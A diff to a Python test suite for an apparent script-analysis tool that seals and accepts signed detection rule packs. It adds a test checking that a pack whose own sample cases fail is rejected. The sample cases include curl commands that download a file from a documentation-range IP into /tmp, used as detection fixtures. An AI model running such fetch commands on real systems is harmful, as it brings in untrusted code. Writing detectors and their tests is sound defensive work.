@@ -59,6 +59,10 @@ def refusal(process):
     return json.loads(process.err.splitlines()[-1])["refused"]
 
 
+def failure(process):
+    return json.loads(process.err)["failed"]["because"]
+
+
 def analyze(person, *words, status=0, **more):
     return person.run("analyze", "--pack", "sample-pack", "--format", "json", *words, status=status, **more)
 
@@ -154,6 +158,37 @@ def what_is_not_ours_or_was_altered_is_not_kept(person):
                                                           status=2).err)
     one_line(person.run("access", "accept", "note", status=2).err)
     assert not (person.home / "packs").exists() or not list((person.home / "packs").iterdir())
+
+
+@case
+def a_pack_whose_own_cases_fail_is_neither_sealed_nor_accepted(person):
+    content = keyed(person).read_text()
+    cases = ((content.replace("- 'curl -s http://192.0.2.201/a -o /tmp/a'", "- 'curl -s http://192.0.2.77/a'"),
+              "does not fire for this case"),
+             (content.replace("- 'ping -c 1 drop.sample-pack.example'", "- 'curl http://192.0.2.201/b'"),
+              "fires for a case that is to be quiet"))
+    home = Person(person.folder)
+    home.environment = {**person.environment, "TOCSIN_HOME": str(person.folder / "lender")}
+    for role in ("one", "two"):
+        officer = Person(person.folder)
+        officer.environment = {**person.environment, "TOCSIN_HOME": str(person.folder / role)}
+        officer.run("access", "card", "--name", role, "--out", f"{role}.card")
+    home.run("access", "init", "--group", "A", "--officer", "security=one.card", "--officer", "legal=two.card",
+             "--out", "lender.card")
+    recipient = person.run("access", "recipient").out.strip()
+    for text, why in cases:
+        assert text != content
+        line = next(number for number, (new, old) in enumerate(zip(text.splitlines(), content.splitlines()), 1) if new != old)
+        # Whoever seals it for a group is told; sealed by hand, whoever is to accept it.
+        bare = person.file("bare.yaml", "".join(one for one in text.splitlines(True) if not one.startswith("key: ")))
+        said = one_line(home.run("access", "seal", bare, "--group", "lender.card", "--to", recipient, "--out", "x",
+                                 status=2).err)
+        assert why in said and f":{line}:" in said, said
+        sealed = seal(person, person.file("failing.yaml", text), f"{line}.age")
+        said = one_line(person.run("access", "accept", sealed, status=2).err)
+        assert why in said and f":{line}:" in said, said
+    assert not (person.home / "packs").exists() or not list((person.home / "packs").iterdir())
+    assert not (person.folder / "x").exists()
 
 
 @case
@@ -254,13 +289,13 @@ def a_pack_that_is_not_there_or_was_altered_is_no_reason_to_go_on_without(person
     sealed[-1] ^= 1
     kept.write_bytes(sealed)
     done = analyze(person, "drop.sh", status=2)
-    assert "cannot be opened" in one_line(done.err) and done.out == ""
+    assert "cannot be opened" in failure(done) and done.out == ""
     assert person.last()["event"] == "failed"
     kept.unlink()
     done = analyze(person, "drop.sh", status=2)
-    assert "has no pack 'sample-pack'" in one_line(done.err) and done.out == ""
+    assert "has no pack 'sample-pack'" in failure(done) and done.out == ""
     kept.symlink_to(person.folder / "pack.age")
-    one_line(analyze(person, "drop.sh", status=2).err)
+    assert failure(analyze(person, "drop.sh", status=2))
 
 
 @case
